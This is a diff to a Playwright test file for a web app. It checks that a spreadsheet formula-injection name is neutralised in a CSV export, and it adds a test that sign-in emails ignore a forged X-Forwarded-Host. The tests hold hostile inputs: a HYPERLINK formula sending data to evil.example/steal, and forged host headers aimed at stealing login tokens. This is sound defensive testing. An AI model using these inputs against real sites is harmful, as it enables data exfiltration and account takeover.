@@ -1,5 +1,5 @@
 import { expect, test, type APIRequestContext, type Page } from "@playwright/test";
-import { DEMO_ORG, DEMO_OWNER, DEMO_SLUG, fromAddress, mailTo, signInAs, uniqueEmail, waitForMail } from "./fixtures";
+import { DEMO_MULTI, DEMO_ORG, DEMO_OWNER, DEMO_SLUG, fromAddress, mailTo, signInAs, uniqueEmail, waitForMail } from "./fixtures";
 
 /** The signing form's fields as the browser would post them without JavaScript (action id included). */
 async function signingFormFields(page: Page, email: string): Promise<Record<string, string>> {
@@ -58,4 +58,31 @@ test("a name that a spreadsheet would run as a formula is refused at signing, an
   const line = csv.split("\r\n").find((l) => l.includes(email))!;
   expect(line).toContain(`"'=HYPERLINK(""https://evil.example/steal?""&A1,""Click"")"`);
   expect(line).not.toMatch(/,=HYPERLINK|,"=HYPERLINK/);
+});
+
+test("a sign-in request with a forged Host (X-Forwarded-Host) still mails a link to this site, so the organizer's token never reaches the forger", async ({ page, request, baseURL }) => {
+  // The attacker asks for a link for a real organizer, claiming to be evil.example; the origin
+  // matches the forged host, so the framework's same-origin check alone would let it through.
+  await page.goto("/en/org/sign-in");
+  await page.getByLabel("Email address").fill(DEMO_MULTI);
+  const fields = await page
+    .locator("form")
+    .filter({ has: page.getByLabel("Email address") })
+    .evaluate((form) => {
+      const out: Record<string, string> = {};
+      new FormData(form as HTMLFormElement).forEach((v, k) => (out[k] = String(v)));
+      return out;
+    });
+  const before = (await mailTo(request, DEMO_MULTI)).length;
+  await request.post("/en/org/sign-in", {
+    multipart: fields,
+    headers: { origin: "http://evil.example", "x-forwarded-host": "evil.example", "x-forwarded-proto": "http" },
+    maxRedirects: 0,
+  });
+  const mails = await waitForMail(request, DEMO_MULTI, before + 1);
+  const text = mails[0].text ?? "";
+  expect(text).not.toContain("evil.example");
+  const links = text.match(/https?:\/\/[^\s]+/g) ?? [];
+  expect(links.length).toBeGreaterThan(0);
+  for (const link of links) expect(new URL(link).origin).toBe(new URL(baseURL!).origin);
 });
